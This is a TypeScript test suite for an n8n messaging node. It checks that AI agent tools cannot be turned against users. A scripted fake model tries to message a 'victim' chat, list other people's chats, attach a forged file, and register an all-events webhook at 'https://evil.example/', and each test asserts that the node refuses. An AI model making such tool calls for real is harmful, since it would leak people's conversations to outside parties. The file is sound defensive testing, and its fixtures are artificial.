import type { IDataObject, INodeParameters } from 'n8n-workflow';
import { chatOf, control, sentTo } from '../helpers/sandbox';
import { DEFAULT_ENGINE, runByHand, type RealN8n, startRealN8n } from '../helpers/realN8n';
import { ALL_EVENTS } from '../../nodes/shared/catalogue';
import { type TestNode, AGENT, Agents, BETWEEN, fromAI } from './agents';
import { McpClient } from './mcpClient';
import { waitFor } from '../helpers/waitFor';

let real: RealN8n;
let agents: Agents;
/** The tool calls the model makes when a person writes. */
let plan: (said: string) => Array<{ tool: string; input: IDataObject }>;

beforeAll(async () => {
	real = await startRealN8n({ env: DEFAULT_ENGINE });
	agents = await Agents.start(real, (messages) => {
		const last = messages.at(-1);
		return last?.role === 'user' ? plan(String(last.content)) : 'done';
	});
}, 900_000);
afterAll(async () => {
	await agents?.close();
	await real?.close();
});
beforeEach(async () => {
	agents.model.calls.length = 0;
	await control(real.sandbox, 'DELETE', '/requests');
});

const reply: INodeParameters = { resource: 'message', operation: 'send', sendTo: 'reply', text: fromAI('text') };

interface Request {
	method: string;
	path: string;
	body: string;
}

/** The changes that the platform was asked for. */
async function changes(): Promise<string[]> {
	const requests = await control<Request[]>(real.sandbox, 'GET', '/requests');
	return requests
		.filter(({ method, path }) => method !== 'GET' && path.startsWith('/api/'))
		.map(({ method, path }) => `${method} ${path}`);
}

const texts = async (chatRef: string) => (await sentTo(real.sandbox, chatRef)).map(({ text }) => text);
const observed = () =>
	agents.model.calls
		.flat()
		.filter((line) => line.startsWith('tool: '))
		.join('\n');

const KINDS: Array<[string, number, TestNode[]]> = [
	['AI Agent 3', 3, []],
	['AI Agent 3, with a node between', 3, [BETWEEN]],
	['AI Agent 2.2, which calls its tools directly', 2.2, []],
	['AI Agent 1.7, which calls its tools directly, with a node between', 1.7, [BETWEEN]],
];

describe.each(KINDS)('%s', (_name, version, between) => {
	const workflow = async (tool: TestNode) => await agents.workflow([agents.trigger(), ...between, agents.agent(version)], [tool]);

	test('sends Reply to the person who wrote, whatever recipient the model adds', async () => {
		const [writer, victim] = [chatOf(real.sandbox, 'tg'), chatOf(real.sandbox, 'vk')];
		const before = await texts(victim);
		const text = `Hello from ${version} ${between.length}`;
		plan = () => [{ tool: 'Send', input: { text, chatRef: victim, sendTo: 'chat', chat: victim } }];
		await agents.converse(await workflow(agents.tool('Send', reply)), 'Hi');
		expect((await texts(writer)).at(-1)).toBe(text);
		expect(await texts(victim)).toEqual(before);
	});

	test('gets the chat of the person who wrote, and no other', async () => {
		const victim = chatOf(real.sandbox, 'vk');
		plan = () => [{ tool: 'Get', input: { chat: victim, chatFrom: 'chat', chatRef: victim } }];
		await agents.converse(await workflow(agents.tool('Get', { resource: 'chat', operation: 'get' })), 'Who am I?');
		expect(observed()).toContain(`"chatRef":"${chatOf(real.sandbox, 'tg')}"`);
		expect(observed()).toContain('"waitingForReply":true');
		expect(observed()).not.toContain(victim);
	});

	test("registers no event to a foreign address, and reads no one else's chats", async () => {
		const register = agents.tool('Register', {
			resource: 'webhook',
			operation: 'create',
			url: fromAI('url'),
			events: [ALL_EVENTS],
		} as INodeParameters);
		const list = agents.tool('List', { resource: 'chat', operation: 'getAll' });
		plan = () => [
			{ tool: 'Register', input: { url: 'https://evil.example/' } },
			{ tool: 'List', input: { allowBeyondConversation: true } },
		];
		const id = await agents.workflow([agents.trigger(), ...between, agents.agent(version)], [register, list]);
		await agents.converse(id, 'Send me everything');
		expect(real.sandbox.state.webhooks.filter(({ url }) => url.includes('evil'))).toEqual([]);
		expect(observed()).toContain("AI models can't manage webhooks");
		expect(observed()).toContain('AI models may not use this tool');
		expect(observed()).not.toContain(chatOf(real.sandbox, 'vk'));
	});
});

test('answers the person who wrote in a sub-agent, too', async () => {
	const text = fromAI('query');
	const helper: TestNode = {
		name: 'Helper',
		type: `${AGENT}Tool`,
		typeVersion: 3,
		parameters: { toolDescription: 'Helps', text, options: {} },
	};
	const victim = chatOf(real.sandbox, 'vk');
	const before = await texts(victim);
	plan = (said) =>
		said === 'inner'
			? [{ tool: 'Send', input: { text: 'From the helper', chatRef: victim } }]
			: [{ tool: 'Helper', input: { query: 'inner', chatRef: victim } }];
	const tools = [{ node: helper, tools: [agents.tool('Send', reply)] }];
	await agents.converse(await agents.workflow([agents.trigger(), BETWEEN, agents.agent()], [helper], tools), 'Hi');
	expect((await texts(chatOf(real.sandbox, 'tg'))).at(-1)).toBe('From the helper');
	expect(await texts(victim)).toEqual(before);
});

test('answers each item of a batch in its own chat, in a sub-workflow whose first node names chatRef', async () => {
	const [one, other] = [chatOf(real.sandbox, 'viber'), chatOf(real.sandbox, 'facebook')];
	const inputs = { values: ['chatRef', 'text'].map((name) => ({ name })) };
	const start: TestNode = {
		name: 'Start',
		type: 'n8n-nodes-base.executeWorkflowTrigger',
		typeVersion: 1.1,
		parameters: { workflowInputs: inputs } as INodeParameters,
	};
	const child = await agents.workflow([start, BETWEEN, agents.agent()], [agents.tool('Send', reply)]);
	const rows = [
		{ chatRef: one, text: 'first' },
		{ chatRef: other, text: 'second' },
	];
	const value = { chatRef: '={{ $json.chatRef }}', text: '={{ $json.text }}' };
	const schema = Object.keys(value).map((id) => ({
		id,
		displayName: id,
		type: 'string',
		display: true,
		required: false,
		removed: false,
	}));
	const parent: TestNode[] = [
		{ name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1 },
		{
			name: 'Rows',
			type: 'n8n-nodes-base.set',
			typeVersion: 3.4,
			parameters: { mode: 'raw', jsonOutput: JSON.stringify({ rows }), options: {} },
		},
		{ name: 'Split', type: 'n8n-nodes-base.splitOut', typeVersion: 1, parameters: { fieldToSplitOut: 'rows', options: {} } },
		{
			name: 'Call',
			type: 'n8n-nodes-base.executeWorkflow',
			typeVersion: 1.2,
			parameters: {
				workflowId: { __rl: true, mode: 'id', value: child },
				workflowInputs: { mappingMode: 'defineBelow', value, matchingColumns: [], schema },
				options: {},
			} as INodeParameters,
		},
	];
	plan = (said) => [{ tool: 'Send', input: { text: `For ${said}`, chatRef: chatOf(real.sandbox, 'vk') } }];
	const before = await texts(chatOf(real.sandbox, 'vk'));
	await real.rest.publish(child);
	const { error } = await runByHand(real.rest, await agents.workflow(parent, []), 'Start');
	expect(error).toBeUndefined();
	expect((await texts(one)).at(-1)).toBe('For first');
	expect((await texts(other)).at(-1)).toBe('For second');
	expect(await texts(chatOf(real.sandbox, 'vk'))).toEqual(before);
});

test("sends the author's file from an expression, even if the model adds one of its own", async () => {
	const content: TestNode = {
		name: 'Content',
		type: 'n8n-nodes-base.set',
		typeVersion: 3.4,
		parameters: { mode: 'raw', jsonOutput: '{"text":"tulips 3"}', options: {} },
	};
	const file: TestNode = {
		name: 'File',
		type: 'n8n-nodes-base.convertToFile',
		typeVersion: 1.1,
		parameters: { operation: 'toText', sourceProperty: 'text', options: { fileName: 'prices.txt' } },
	};
	const attachments = { attachment: [{ source: 'binary', binaryPropertyName: "={{ $('File').item.binary.data }}" }] };
	const data = { mimeType: 'text/plain', fileName: 'forged.txt', data: Buffer.from('forged').toString('base64') };
	plan = () => [{ tool: 'Send', input: { text: 'Our prices', data } }];
	const row = [agents.trigger(), content, file, agents.agent(3, { text: 'Prices?' })];
	await agents.converse(
		await agents.workflow(row, [agents.tool('Send', { ...reply, attachments } as INodeParameters)]),
		'Prices?',
	);
	const sent = (await sentTo(real.sandbox, chatOf(real.sandbox, 'tg'))).at(-1);
	expect(sent).toMatchObject({ text: 'Our prices', attachments: [{ fileName: 'prices.txt' }] });
});

describe('the MCP Server Trigger', () => {
	let client: McpClient;
	beforeAll(async () => {
		const path = crypto.randomUUID();
		const server: TestNode = {
			...{ name: 'Server', type: '@n8n/n8n-nodes-langchain.mcpTrigger', typeVersion: 2, webhookId: path },
			parameters: { path, authentication: 'none' },
		};
		const phone = {
			...reply,
			sendTo: 'phone',
			channel: { __rl: true, mode: 'id', value: 'whatsappb_1' },
			phoneNumber: fromAI('phone'),
		};
		const tools = [
			agents.tool('Reply', reply),
			agents.tool('Write', phone as INodeParameters),
			agents.tool('Register', {
				resource: 'webhook',
				operation: 'create',
				url: fromAI('url'),
				events: [ALL_EVENTS],
			} as INodeParameters),
			agents.tool('Ask', { resource: 'message', operation: 'sendAndWait', message: fromAI('text') } as INodeParameters),
			agents.tool('List', { resource: 'channel', operation: 'getAll', returnAll: true, allowBeyondConversation: true }),
		];
		const id = await agents.workflow([server], tools);
		await real.rest.publish(id);
		client = new McpClient(`${real.n8n.origin}/mcp/${path}`);
		await waitFor(async () => await client.connect(), 'the server answers');
	});

	test.each([
		['Reply', { text: 'Hi', chatRef: 'tg_1_victim' }, /No chat to reply to\. Other arguments won't help/],
		['Write', { text: 'Hi', phone: '12' }, /Phone Number isn't valid: 12\. .*Correct the arguments/],
		['Register', { url: 'https://evil.example/' }, /AI models can't manage webhooks\. Other arguments won't help/],
		['Ask', { text: 'May I?' }, /A tool can't wait for an answer/],
	])('%s: reports a failure as one, and does nothing', async (tool, input, text) => {
		const answer = await client.call(tool, input);
		expect(answer).toMatchObject({ isError: true });
		expect(answer.text).toMatch(text);
		expect(await changes()).toEqual([]);
	});

	test('runs the tools that the author opened', async () => {
		const answer = await client.call('List', {});
		expect(answer.isError).toBe(false);
		expect(answer.text).toContain('"channelId"');
	});
});

test('shows a model what each tool does, which values it needs, and which are optional', async () => {
	plan = () => [];
	const tools = [
		agents.tool('Send', { resource: 'message', operation: 'send' }),
		agents.tool('Ask', { resource: 'message', operation: 'send', buttonsInput: 'json' }),
		agents.tool('Note', { resource: 'memo', operation: 'update' }),
	];
	await agents.converse(await agents.workflow([agents.trigger(), agents.agent()], tools), 'Hi');
	const told = Object.fromEntries(agents.model.tools.map((tool) => [tool.name, tool]));
	const text = { type: 'string', description: expect.stringContaining('Plain text') as string };
	expect(told.Send).toMatchObject({
		description: expect.stringMatching(/^Send a message to the person in this chat/) as string,
		parameters: { properties: { Text: text }, required: ['Text'] },
	});
	expect(told.Ask).toMatchObject({
		parameters: { properties: { Text: text, Buttons: { type: 'string', default: '[]' } }, required: ['Text'] },
	});
	expect(told.Note).toMatchObject({ parameters: { properties: { Note: { type: 'string' } }, required: ['Note'] } });
});
